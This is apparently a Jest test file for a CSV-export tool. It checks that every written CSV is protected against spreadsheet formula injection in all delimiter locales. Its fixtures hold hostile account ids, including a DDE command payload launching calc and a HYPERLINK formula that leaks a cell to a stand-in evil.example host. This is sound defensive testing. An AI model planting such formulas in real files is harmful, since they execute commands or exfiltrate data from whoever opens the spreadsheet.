/**
 * Every CSV swarmscope writes is safe to open in a spreadsheet in any locale (issue 15, "Leaks and injection":
 * semicolon-locale formulas such as `x;=cmd|' /C calc'!A0` were missed). Through the spawned CLI on a copy of
 * fixtures/small-world whose account ids, capability, card and fingerprint carry formulas after `;` `,` TAB
 * `|` and a line break, and whose rejected rows carry them too: sweep --state (members.csv, clusters.csv,
 * rejects.csv, history identifiers.csv) and evidence (every data/*.csv of the pack). In every file, however a
 * reader splits it (on `,` `;` TAB `|` or a line break, with or without regard to quotes), no field starts with
 * a formula trigger; and the ids read back exactly as imported (members.csv → case members, evidence pack).
 */
import * as fs from 'fs';
import * as path from 'path';
import { parse } from 'csv-parse/sync';
import { unneutraliseCsvText } from '../../src/core/csv';
import { readZip } from '../../src/evidence/zip';
import { ensureBuilt, ROOT, runCli, tempDir } from '../sweep/support';

const FIXTURE = path.join(ROOT, 'fixtures/small-world');
const TRIGGER_START = /^[=+\-@\t\r＝＋－＠]/;
const SPLITTERS = [',', ';', '\t', '|', '\r', '\n'];
/** A genuine number cell (csvNumber): a spreadsheet reads it as the number it is. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/** Account ids as an attacker who controls them would pick them. */
const HOSTILE_ACCOUNTS: Record<string, string> = {
  acct_swarm_01: "x;=cmd|' /C calc'!A0",
  acct_swarm_02: '=HYPERLINK("http://evil.example/?"&A1)',
  acct_swarm_03: 'a,-2+3',
  acct_swarm_04: 'b\t@SUM(A1)',
  acct_swarm_05: 'c|+1',
  acct_swarm_06: 'd\n=1+1',
  acct_swarm_07: "'=already;'-marked",
  acct_swarm_08: 'e;"=1"',
};
const HOSTILE_VALUES: Record<string, string> = {
  software_engineering: 'code;=cmd',
  card_prepaid_A: 'card;@x',
  fp_automation_X: 'fp;-1,+2',
};

let root: string;
let world: string;
let sweep: string;
let state: string;

const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;

function hostileWorld(dir: string): void {
  fs.mkdirSync(dir, { recursive: true });
  const substitutions = Object.entries({ ...HOSTILE_ACCOUNTS, ...HOSTILE_VALUES });
  for (const file of fs.readdirSync(FIXTURE)) {
    if (!file.endsWith('.csv')) continue;
    let text = fs.readFileSync(path.join(FIXTURE, file), 'utf8');
    // Longest names first, so acct_swarm_01 is not replaced inside a longer id.
    for (const [from, to] of substitutions.sort((a, b) => b[0].length - a[0].length)) text = text.split(from).join(quoted(to));
    // Rejected rows carry formulas too: the rejects file quotes the raw line and the cells.
    if (file === 'accounts.csv') text += `${quoted('bad;=cmd')},not-a-date;=1,x,US,active\n`;
    if (file === 'exchanges.csv') text += `acct_team_01,2026-09-01,"cap|@x",-1;=2,1,1\n`;
    fs.writeFileSync(path.join(dir, file), text);
  }
}

/** Every field a careless reader or a differently-set locale could produce from the file's text. */
function naiveFields(text: string): string[] {
  let fields = [text];
  for (const separator of SPLITTERS) fields = fields.flatMap((field) => field.split(separator));
  return fields.map((field) => field.replace(/^"+/, ''));
}

function expectSpreadsheetSafe(name: string, text: string): void {
  const unsafe = naiveFields(text).filter((field) => TRIGGER_START.test(field) && !NUMBER.test(field));
  expect({ file: name, unsafe }).toEqual({ file: name, unsafe: [] });
}

function csvRows(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}

beforeAll(() => {
  ensureBuilt();
  root = tempDir('swarmscope-hostile-csv-');
  world = path.join(root, 'world');
  hostileWorld(world);
  sweep = path.join(root, 'sweep');
  state = path.join(root, 'state');
}, 180_000);
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

test('sweep: members.csv, clusters.csv, rejects.csv and the history files are safe in every locale; ids read back exactly', () => {
  const result = runCli(['sweep', world, '--out', sweep, '--state', state, '--quiet']);
  expect(result.status).toBe(1); // the two planted bad rows are rejected
  const files = ['members.csv', 'clusters.csv', 'rejects.csv'].map((name) => path.join(sweep, name));
  const history = path.join(state, 'history');
  for (const entry of fs.readdirSync(history, { recursive: true }) as string[]) if (entry.endsWith('.csv')) files.push(path.join(history, entry));
  expect(files.some((file) => file.endsWith('identifiers.csv'))).toBe(true);
  for (const file of files) expectSpreadsheetSafe(path.relative(root, file), fs.readFileSync(file, 'utf8'));

  const rejects = fs.readFileSync(path.join(sweep, 'rejects.csv'), 'utf8');
  expect(rejects).toContain("bad;'=cmd");
  expect(rejects).toContain("-1;'=2");

  const members = csvRows(fs.readFileSync(path.join(sweep, 'members.csv'), 'utf8')).slice(1);
  const ids = members.map((row) => unneutraliseCsvText(row[0]));
  for (const id of Object.values(HOSTILE_ACCOUNTS)) expect(ids).toContain(id);
  // The state dir's fast members reader (lineage, case members) reads them back exactly too.
  const cluster = members[ids.indexOf(HOSTILE_ACCOUNTS.acct_swarm_01)][1];
  const listed = runCli(['case', 'members', cluster, '--state', state, '--json', '--force']);
  expect(listed.status).toBe(0);
  const exact = (JSON.parse(listed.stdout) as { accounts: string[] }).accounts;
  const expected = Object.values(HOSTILE_ACCOUNTS).filter((id) => members[ids.indexOf(id)][1] === cluster);
  expect(expected.length).toBeGreaterThan(1);
  for (const id of expected) expect(exact).toContain(id);
});

test('evidence: every data/*.csv of the pack is safe, and the pack names the accounts exactly as imported', () => {
  const report = JSON.parse(fs.readFileSync(path.join(sweep, 'report.json'), 'utf8')) as { clusters: Array<{ cluster_id: string }> };
  const members = csvRows(fs.readFileSync(path.join(sweep, 'members.csv'), 'utf8')).slice(1);
  const clusterOf = new Map(members.map((row) => [unneutraliseCsvText(row[0]), row[1]]));
  const cluster = clusterOf.get(HOSTILE_ACCOUNTS.acct_swarm_01)!;
  expect(report.clusters.map((c) => c.cluster_id)).toContain(cluster);

  const pack = path.join(root, 'pack.zip');
  const built = runCli(['evidence', sweep, '--cluster', cluster, '--out', pack]);
  expect(built.status).toBe(0);
  const tables = readZip(fs.readFileSync(pack), 'pack.zip').filter((entry) => entry.name.endsWith('.csv'));
  expect(tables.map((entry) => path.basename(entry.name)).sort()).toEqual(expect.arrayContaining(['members.csv', 'links.csv', 'exchanges.csv', 'identifiers.csv']));
  for (const table of tables) expectSpreadsheetSafe(table.name, table.data.toString('utf8'));

  const packMembers = tables.find((entry) => entry.name.endsWith('/members.csv'))!;
  const packIds = csvRows(packMembers.data.toString('utf8')).slice(1).map((row) => unneutraliseCsvText(row[0]));
  const expected = Object.values(HOSTILE_ACCOUNTS).filter((id) => clusterOf.get(id) === cluster);
  expect(expected.length).toBeGreaterThan(1);
  for (const id of expected) expect(packIds).toContain(id);
  const exchanges = tables.find((entry) => entry.name.endsWith('/exchanges.csv'))!.data.toString('utf8');
  expect(csvRows(exchanges).slice(1).map((row) => unneutraliseCsvText(row[2]))).toContain(HOSTILE_VALUES.software_engineering);
});
